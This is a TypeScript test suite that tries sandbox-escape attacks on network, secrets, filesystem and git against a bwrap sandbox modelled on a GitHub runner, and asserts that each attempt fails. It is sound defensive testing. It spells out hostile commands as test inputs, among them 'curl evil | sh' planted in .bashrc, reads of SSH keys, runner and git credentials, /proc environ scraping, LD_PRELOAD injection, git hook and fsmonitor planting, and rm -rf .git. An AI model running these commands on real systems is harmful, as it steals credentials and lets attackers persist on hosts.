/**
 * The escape battery, part 1 (escape-battery.md §A, T01–T25): network, secrets and the
 * filesystem. Each test runs the attack for real in pitcrew's bwrap sandbox over a scratch copy
 * of a GitHub runner, and checks both what the command saw and that the host is unchanged.
 * Kernel, process and limit attacks are in sandbox-escape-kernel.test.ts; the weakened-argv
 * controls that prove each flag matters are in sandbox-escape-controls.test.ts.
 */
import assert from "node:assert/strict";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { before, describe, test } from "node:test";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { needsBwrap } from "../support/bwrap.ts";
import {
  assertNoSecrets,
  bash,
  hostGit,
  present,
  randomTag,
  useRunnerLayout,
} from "../support/runner-layout.ts";
import type { RunnerLayout } from "../support/runner-layout.ts";

describe("escape battery §A: network, secrets, filesystem (T01–T25)", needsBwrap(), () => {
  const battery = useRunnerLayout();
  let layout: RunnerLayout;
  let sandbox: Sandbox;
  before(() => ({ layout, sandbox } = battery));

  describe("network", () => {
    test("T01 egress to a public host fails before any connection", async () => {
      const result = await bash(sandbox, "curl -sS -m 5 https://example.com -o /dev/null");
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Could not resolve host|Network is unreachable/);
    });

    test("T02 egress by raw IP (no DNS) is unreachable", async () => {
      const result = await bash(sandbox, "echo x > /dev/tcp/1.1.1.1/443");
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Network is unreachable/);
    });

    test("T03 DNS resolution (and so DNS exfiltration) fails", async () => {
      const result = await bash(
        sandbox,
        `getent hosts example.com; echo "getent=$?"
python3 -c 'import socket; socket.getaddrinfo("example.com", 443)'; echo "python=$?"`,
      );
      assert.match(result.stdout.text, /getent=[12]\n/);
      assert.match(result.stdout.text, /python=1\n/);
      assert.match(result.stderr.text, /socket\.gaierror/);
    });

    test("T04 services on the runner's loopback are refused", async () => {
      const before = layout.tcp.connections;
      const result = await bash(sandbox, `curl -sS -m 3 http://127.0.0.1:${layout.tcp.address}/`);
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Failed to connect|Couldn't connect/);
      assert.ok(!result.stdout.text.includes(layout.tcp.greeting));
      assert.equal(layout.tcp.connections, before, "the host listener saw a client");
    });

    test("T05 abstract unix sockets of host processes are refused", async () => {
      const before = layout.abstract.connections;
      const result = await bash(
        sandbox,
        `python3 -c '
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect(b"\\0${layout.abstract.address}")
    print("CONNECTED", s.recv(100))
except OSError as e:
    print("REFUSED", type(e).__name__, e.errno)
'`,
      );
      assert.match(result.stdout.text, /^REFUSED ConnectionRefusedError 111$/m);
      assert.equal(layout.abstract.connections, before);
    });

    test("T06 filesystem unix sockets (docker.sock analog in host /tmp) are not visible", async () => {
      const before = layout.unix.connections;
      const result = await bash(
        sandbox,
        `python3 -c '
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("${layout.unix.address}")
    print("CONNECTED", s.recv(100))
except OSError as e:
    print("REFUSED", type(e).__name__, e.errno)
'
curl -sS -m 3 --unix-socket ${layout.unix.address} http://x/version; echo "curl=$?"
echo "run:[$(ls -A /run)] var-run:[$(ls -A /var/run/)] tmp:[$(ls -A /tmp)]"`,
      );
      assert.match(result.stdout.text, /^REFUSED FileNotFoundError 2$/m);
      assert.match(result.stdout.text, /curl=7\n/);
      // /tmp holds only the mount point of the read-only spill folder, inside its fresh tmpfs.
      assert.match(result.stdout.text, /run:\[\] var-run:\[\] tmp:\[pitcrew-spill\]/);
      assert.equal(layout.unix.connections, before);
    });
  });

  describe("secrets", () => {
    test("T07 the environment holds no secrets (keys, tokens, INPUT_*, ACTIONS_*)", async () => {
      const result = await bash(
        sandbox,
        "env; echo ---; env | grep -iE 'token|key|secret|INPUT_|ACTIONS_' || echo NO-SECRETS-IN-ENV",
      );
      assert.match(result.stdout.text, /---\nNO-SECRETS-IN-ENV\n$/);
      assertNoSecrets(layout, result);
      assert.match(result.stdout.text, new RegExp(`^HOME=${layout.home}$`, "m"));
    });

    test("T08 /proc shows no harness or runner process, so no secrets in environ/cmdline", async () => {
      const result = await bash(
        sandbox,
        `for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f"; done 2>/dev/null
echo ---PS---
ps -e -o comm=`,
      );
      assertNoSecrets(layout, result);
      assert.ok(!result.stdout.text.includes(layout.decoy.cmdlineToken));
      // The script's own text (in bash's cmdline) holds the separator too: ps output is the last part.
      const processes = result.stdout.text.split("---PS---\n").at(-1)?.trim().split("\n") ?? [];
      assert.ok(processes.length > 0 && processes.length <= 4, `processes: ${processes.join(",")}`);
      for (const name of processes) assert.ok(["bwrap", "bash", "ps"].includes(name), name);
      // The decoy really carries them, where a host process can look.
      const environ = readFileSync(`/proc/${layout.decoy.pid}/environ`, "utf8");
      assert.ok(environ.includes(layout.secrets.OPENAI_API_KEY ?? "?"));
    });

    test("T09 kill -9 -1 cannot reach the harness or the runner", async () => {
      const result = await bash(sandbox, 'kill -9 -1; echo "kill=$?"');
      assert.match(result.stdout.text, /kill=1\n/);
      assert.match(result.stderr.text, /No such process/);
      assert.ok(layout.hostAlive());
    });

    test("T10 no checkout token in .git/config (extraheader, includeIf)", async () => {
      const result = await bash(
        sandbox,
        `grep -iE 'extraheader|includeif|authorization' .git/config || echo NO-TOKEN-IN-GIT-CONFIG
git config --get-regexp '^http\\.'; echo "http=$?"
git config --get-regexp '^include'; echo "include=$?"
git config --show-origin --list`,
      );
      assert.match(result.stdout.text, /NO-TOKEN-IN-GIT-CONFIG\nhttp=1\ninclude=1\n/);
      assertNoSecrets(layout, result);
      assert.ok(readFileSync(layout.files.gitConfig, "utf8").includes(layout.gitToken));
    });

    test("T11 the checkout-v6 credentials file in RUNNER_TEMP is not readable", async () => {
      const result = await bash(sandbox, `cat ${layout.runnerTemp}/git-credentials-*.config`);
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /No such file or directory/);
      assertNoSecrets(layout, result);
    });

    test("T12 step scripts and the GITHUB_ENV/OUTPUT files are not readable", async () => {
      const result = await bash(
        sandbox,
        `cat ${layout.runnerTemp}/*.sh ${layout.runnerTemp}/_runner_file_commands/*; ls -A ${layout.runnerTemp}`,
      );
      assert.notEqual(result.exitCode, 0);
      assert.equal((result.stderr.text.match(/No such file or directory/g) ?? []).length, 3);
      assertNoSecrets(layout, result);
    });

    test("T13 the SSH key is not readable", async () => {
      const result = await bash(sandbox, "cat ~/.ssh/id_rsa");
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /No such file or directory/);
      assertNoSecrets(layout, result);
    });

    test("T14 registry credentials are not readable", async () => {
      const result = await bash(sandbox, "cat ~/.docker/config.json");
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /No such file or directory/);
      assertNoSecrets(layout, result);
    });

    test("T15 the runner's own credentials are not readable", async () => {
      const result = await bash(sandbox, 'cat ~/runners/*/.credentials; echo "cat=$?"; ls -A ~');
      // Home is empty but for the folders bwrap made to reach the workspace mount.
      assert.equal(result.stdout.text, "cat=1\nwork\n");
      assert.match(result.stderr.text, /No such file or directory/);
      assertNoSecrets(layout, result);
    });
  });

  describe("writes outside the project", () => {
    test("T16 a planted .bashrc lands in the ephemeral home only", async () => {
      const result = await bash(sandbox, "echo 'curl evil | sh' >> ~/.bashrc && cat ~/.bashrc");
      assert.equal(result.exitCode, 0);
      assert.equal(result.stdout.text, "curl evil | sh\n");
      assert.equal(readFileSync(layout.files.bashrc, "utf8"), "# original bashrc\n");
      const next = await bash(sandbox, "cat ~/.bashrc");
      assert.match(next.stderr.text, /No such file or directory/, "the home tmpfs is per command");
    });

    test("T17 writes to /etc, /var/tmp and GITHUB_ENV all fail", async () => {
      const tag = randomTag(8);
      const result = await bash(
        sandbox,
        `touch /etc/pwned-${tag}; echo "etc=$?"
touch /var/tmp/pwned-${tag}; echo "vartmp=$?"
echo LD_PRELOAD=/tmp/x.so >> ${layout.files.setEnv}; echo "setenv=$?"`,
      );
      assert.equal(result.stdout.text, "etc=1\nvartmp=1\nsetenv=1\n");
      assert.equal((result.stderr.text.match(/Read-only file system/g) ?? []).length, 2);
      assert.match(result.stderr.text, /set_env_\w+: No such file or directory/);
      assert.ok(!present(`/etc/pwned-${tag}`) && !present(`/var/tmp/pwned-${tag}`));
      assert.equal(readFileSync(layout.files.setEnv, "utf8"), "");
    });

    test("T18 writing through a symlink that points outside the project fails", async (t) => {
      const link = join(layout.project, "p1");
      t.after(() => rmSync(link, { force: true }));
      const result = await bash(sandbox, `ln -sf ${layout.files.victim} p1 && echo PWNED >> p1`);
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /p1: Read-only file system/);
      assert.equal(readFileSync(layout.files.victim, "utf8"), "original victim\n");
      assert.ok(present(link), "the link itself stays in the project: see C8");
    });

    test("T19 hard-linking an outside file into the project fails", async () => {
      const result = await bash(sandbox, `ln ${layout.files.victim} hl`);
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Invalid cross-device link/);
      assert.ok(!present(join(layout.project, "hl")));
    });
  });

  describe("git and workflows", () => {
    test("T20 a git hook cannot be planted", async () => {
      const result = await bash(
        sandbox,
        `printf '#!/bin/sh\\ntouch ${layout.outside}/hook-ran\\n' > .git/hooks/pre-commit`,
      );
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Read-only file system/);
      assert.ok(!present(join(layout.project, ".git", "hooks", "pre-commit")));
    });

    test("T21 git config cannot be changed (core.fsmonitor and friends)", async () => {
      const result = await bash(
        sandbox,
        `git config core.fsmonitor 'touch ${layout.outside}/fsmonitor-ran'`,
      );
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /could not lock config file .*Read-only file system/);
      hostGit(layout, ["status", "--short"], false);
      assert.ok(!present(join(layout.outside, "fsmonitor-ran")));
    });

    test("T22 .git/commondir cannot be redirected", async () => {
      const result = await bash(sandbox, "echo ../evil > .git/commondir");
      assert.notEqual(result.exitCode, 0);
      assert.match(result.stderr.text, /Read-only file system/);
      assert.ok(!present(join(layout.project, ".git", "commondir")));
    });

    test("T23 git commit fails; git status, log and diff keep working", async (t) => {
      t.after(() => hostGit(layout, ["checkout", "--", "README.md"]));
      const result = await bash(
        sandbox,
        `echo change >> README.md
git status --short; echo "status=$?"
git log --oneline | wc -l; git diff --stat; echo "diff=$?"
git add -A && git commit -qm x; echo "commit=$?"`,
      );
      assert.match(
        result.stdout.text,
        /^ M README.md\nstatus=0\n1\n.*README.md.*\n.*\ndiff=0\ncommit=128\n$/,
      );
      assert.match(
        result.stderr.text,
        /Unable to create '.*\.git\/index\.lock': Read-only file system/,
      );
      assert.equal(hostGit(layout, ["rev-list", "--count", "HEAD"]).trim(), "1");
    });

    test("T24 the repository cannot be moved or deleted", async () => {
      const result = await bash(sandbox, 'mv .git g2; echo "mv=$?"; rm -rf .git; echo "rm=$?"');
      assert.equal(result.stdout.text, "mv=1\nrm=1\n");
      assert.match(result.stderr.text, /mv: .*Device or resource busy/);
      assert.match(result.stderr.text, /rm: .*Read-only file system/);
      assert.ok(!present(join(layout.project, "g2")));
      assert.equal(hostGit(layout, ["rev-list", "--count", "HEAD"]).trim(), "1");
    });

    test("T25 workflow files cannot be changed or added", async () => {
      const result = await bash(
        sandbox,
        `echo '  evil: true' >> .github/workflows/ci.yml; echo "append=$?"
touch .github/workflows/evil.yml; echo "touch=$?"`,
      );
      assert.equal(result.stdout.text, "append=1\ntouch=1\n");
      assert.equal((result.stderr.text.match(/Read-only file system/g) ?? []).length, 2);
      assert.ok(!present(join(layout.project, ".github", "workflows", "evil.yml")));
    });
  });

  test("the layout really holds what the battery attacks (host side)", () => {
    for (const path of Object.values(layout.files)) assert.ok(present(path), path);
    assert.match(readFileSync(layout.files.gitCredentials, "utf8"), /AUTHORIZATION: basic/);
    assert.match(readFileSync(layout.files.gitConfig, "utf8"), /includeIf "gitdir:/);
    writeFileSync(join(layout.project, ".probe"), "ok");
    rmSync(join(layout.project, ".probe"));
  });
});
